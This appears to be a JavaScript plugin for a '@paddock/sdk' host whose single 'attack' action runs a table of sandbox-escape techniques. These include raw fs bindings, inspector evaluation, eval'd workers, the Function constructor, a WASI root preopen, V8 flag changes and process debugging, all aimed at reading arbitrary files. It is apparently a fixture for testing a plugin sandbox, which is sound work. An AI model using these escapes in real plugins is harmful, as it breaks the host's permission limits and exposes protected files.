import { definePlugin } from "@paddock/sdk";

const WAYS = {
  fsBinding(path) {
    const fs = process.binding("fs");
    return fs.readFileUtf8?.(path, 0) ?? fs.open(path, 0, 0o666, undefined, {});
  },
  linkedBinding: () => process._linkedBinding("fs"),
  async inspector() {
    const { open, url } = await import("node:inspector");
    open(0, "127.0.0.1");
    if (url() === undefined) throw new Error("EPERM: nobody can reach the inspector");
  },
  async inspectorEval(path) {
    const { Session } = await import("node:inspector/promises");
    const session = new Session();
    session.connect();
    const expression = `process.getBuiltinModule("node:fs").readFileSync(${JSON.stringify(path)}, "utf8")`;
    const { exceptionDetails, result } = await session.post("Runtime.evaluate", { expression });
    if (exceptionDetails) throw new Error(exceptionDetails.exception.description);
    return result.value;
  },
  async worker(path) {
    const { Worker } = await import("node:worker_threads");
    const code = `process.getBuiltinModule("node:fs").readFileSync(${JSON.stringify(path)}, "utf8")`;
    const worker = new Worker(code, { eval: true, execArgv: [] });
    await new Promise((resolve, reject) => worker.on("error", reject).on("exit", resolve));
  },
  constructor: (path) =>
    (() => {}).constructor("p", "return process.getBuiltinModule('node:fs').readFileSync(p)")(path),
  async wasi(path) {
    const { WASI } = await import("node:wasi");
    new WASI({ version: "preview1", preopens: { "/": path } });
    throw new Error("ENOENT: preopened, but nothing is there");
  },
  async flags(path) {
    (await import("node:v8")).setFlagsFromString("--allow-natives-syntax");
    return process.getBuiltinModule("node:fs").readFileSync(path, "utf8");
  },
  debug: (_path, pid) => process._debugProcess(pid),
};

export default definePlugin({ actions: { attack: ({ way, path, pid }) => WAYS[way](path, pid) } });
